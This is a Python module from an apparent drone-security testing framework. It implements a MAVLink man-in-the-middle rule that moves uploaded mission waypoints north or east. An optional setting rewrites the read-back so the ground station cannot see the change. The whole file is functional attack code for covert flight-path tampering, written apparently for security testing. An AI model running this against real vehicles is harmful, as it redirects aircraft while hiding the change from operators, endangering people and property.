"""mission_shift: the vehicle flies the uploaded mission somewhere else, and the ground station cannot tell.

A mission reaches the vehicle as MISSION_ITEM_INT frames (x, y: latitude and longitude in degE7; the
float MISSION_ITEM in degrees from older ground stations), each answering the vehicle's request for
one seq. The rule moves the waypoints of an upload by ``north_m``/``east_m``; with ``hide`` it also
puts back, in the items the vehicle sends when the ground station reads the mission back, the
coordinates the ground station sent, so the read-back matches the upload. Only navigation commands
that carry a position (waypoint, loiter, land, takeoff, spline waypoint, ...) in a global frame are
moved; an item at 0/0 means "here" to the autopilots and stays. The original of every moved item is
kept per vehicle and mission seq, and a read-back item is restored only while it still holds the
position this rule wrote (an item another upload changed since passes as it is).
"""

from __future__ import annotations

import math
from typing import Any, ClassVar, Literal

from pydantic import Field

from attack_profiles.primitives.frame_op import FrameOp, FrameOpRule, LinkView
from attack_profiles.rule import Finite, Target
from mavframe.packet import Direction, Packet
from secuav_common.geo import EARTH_RADIUS_M
from secuav_common.loading import InputError

MISSION_ITEM_INT = 73  # MAVLINK_MSG_ID_MISSION_ITEM_INT (a test checks these against the dialect)
MISSION_ITEM = 39
# MAV_CMD_NAV_* whose x/y are a position: WAYPOINT, LOITER_UNLIM, LOITER_TURNS, LOITER_TIME, LAND, TAKEOFF,
# LOITER_TO_ALT, SPLINE_WAYPOINT, VTOL_TAKEOFF, VTOL_LAND, PAYLOAD_PLACE.
NAV_WITH_POSITION = frozenset({16, 17, 18, 19, 21, 22, 31, 82, 84, 85, 94})
# MAV_FRAME_GLOBAL, GLOBAL_RELATIVE_ALT, GLOBAL_INT, GLOBAL_RELATIVE_ALT_INT, GLOBAL_TERRAIN_ALT(_INT)
GLOBAL_FRAMES = frozenset({0, 3, 5, 6, 10, 11})
MAX_ITEMS = 10_000  # remembered originals per rule: bounded, seqs come off the wire
FLOAT_SLACK_E7 = 100  # a float32 degree carries ~40 degE7 at mid latitudes: "still what we wrote"


class MissionShiftRule(FrameOpRule):
    """Move the uploaded mission's positions ``north_m`` north and ``east_m`` east while the window is open;
    ``hide`` (default) gives the ground station back what it sent when it reads the mission."""

    kind: Literal["mission_shift"] = "mission_shift"
    selects: ClassVar[bool] = False
    target: Target = Field(default_factory=lambda: Target(message="MISSION_ITEM_INT", direction="uplink"))
    north_m: Finite = Field(0.0, description="metres the positions move north")
    east_m: Finite = Field(0.0, description="metres the positions move east")
    hide: bool = Field(True, description="give the read-back the coordinates the ground sent")

    def check(self, where: str, source: str) -> None:
        super().check(where, source)
        if self.target.message not in ("MISSION_ITEM_INT", "MISSION_ITEM"):
            raise InputError(source, f"{where}.target.message", self.target.message,
                             "mission_shift moves MISSION_ITEM_INT (and MISSION_ITEM) coordinates")  # fmt: skip
        if self.target.direction != "uplink":
            raise InputError(source, f"{where}.target.direction", self.target.direction,
                             "a mission is shifted on its way up; hide: true rewrites the read-back")  # fmt: skip

    @property
    def directions(self) -> frozenset[Direction]:
        return frozenset((Direction.UPLINK, Direction.DOWNLINK)) if self.hide else frozenset((Direction.UPLINK,))


class MissionShift(FrameOp):
    kind = "mission_shift"
    rule_model = MissionShiftRule

    def __init__(self, rule: MissionShiftRule, ctx: Any) -> None:
        super().__init__(rule, ctx)
        self.north_m, self.east_m, self.hide = rule.north_m, rule.east_m, rule.hide
        # (vehicle, seq) -> (sent x, sent y, written x, written y), degE7
        self.moved: dict[tuple[int, int], tuple[int, int, int, int]] = {}

    @property
    def message_ids(self) -> frozenset[int]:
        return frozenset((MISSION_ITEM_INT, MISSION_ITEM))

    def on_frame(self, pkts: list[Packet], t_s: float, view: LinkView) -> list[Packet]:
        sysid = self.rule.target.sysid
        if sysid is not None and sysid != view.vehicle:
            return pkts
        for p in pkts:
            if p.header.msgid not in (MISSION_ITEM_INT, MISSION_ITEM) or p.fields is None:
                continue
            if p.fields.get("mission_type", 0) != 0:
                continue  # fences and rally points stay
            if p.direction is Direction.UPLINK:
                if self.start_s <= t_s < self.end_s:
                    self._shift(p, view)
            elif self.hide:
                self._restore(p, view)
        return pkts

    def _shift(self, p: Packet, view: LinkView) -> None:
        f = p.fields
        assert f is not None
        key = (view.vehicle, int(f["seq"]))
        scale = 1 if p.header.msgid == MISSION_ITEM_INT else 1e7
        x, y = round(f["x"] * scale), round(f["y"] * scale)
        if f["command"] not in NAV_WITH_POSITION or f["frame"] not in GLOBAL_FRAMES or (x == 0 and y == 0):
            self.moved.pop(key, None)  # this seq is no longer one we moved
            return
        lat = math.radians(x * 1e-7)
        new_x = round(x + math.degrees(self.north_m / EARTH_RADIUS_M) * 1e7)
        new_y = round(y + math.degrees(self.east_m / (EARTH_RADIUS_M * max(math.cos(lat), 1e-9))) * 1e7)
        new_x = max(-900_000_000, min(900_000_000, new_x))
        new_y = (new_y + 1_800_000_000) % 3_600_000_000 - 1_800_000_000  # across the antimeridian
        if key in self.moved or len(self.moved) < MAX_ITEMS:
            self.moved[key] = (x, y, new_x, new_y)
        f["x"], f["y"] = (new_x, new_y) if scale == 1 else (new_x / 1e7, new_y / 1e7)
        p.changed = True
        p.notes.append(self.note)
        view.counts[self.kind] = view.counts.get(self.kind, 0) + 1

    def _restore(self, p: Packet, view: LinkView) -> None:
        f = p.fields
        assert f is not None
        seen = self.moved.get((view.vehicle, int(f["seq"])))
        if seen is None:
            return
        sent_x, sent_y, new_x, new_y = seen
        if p.header.msgid == MISSION_ITEM_INT:
            if (f["x"], f["y"]) != (new_x, new_y):
                return
            f["x"], f["y"] = sent_x, sent_y
        else:
            if abs(f["x"] * 1e7 - new_x) > FLOAT_SLACK_E7 or abs(f["y"] * 1e7 - new_y) > FLOAT_SLACK_E7:
                return
            f["x"], f["y"] = sent_x / 1e7, sent_y / 1e7
        p.changed = True
        p.notes.append(self.note)
